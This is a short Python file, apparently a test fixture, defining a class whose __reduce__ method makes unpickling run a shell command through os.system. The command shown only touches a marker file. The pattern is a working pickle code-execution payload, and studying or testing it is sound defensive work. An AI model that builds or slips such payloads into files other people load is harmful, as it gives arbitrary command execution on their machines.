"""A file that does harm to who unpickles it."""

from pathlib import Path


class Attack:
    """What runs a command where it is unpickled freely."""

    def __init__(self, mark: Path) -> None:
        self.mark = mark

    def __reduce__(self) -> tuple[object, tuple[str]]:
        import os

        return os.system, (f"touch {self.mark}",)
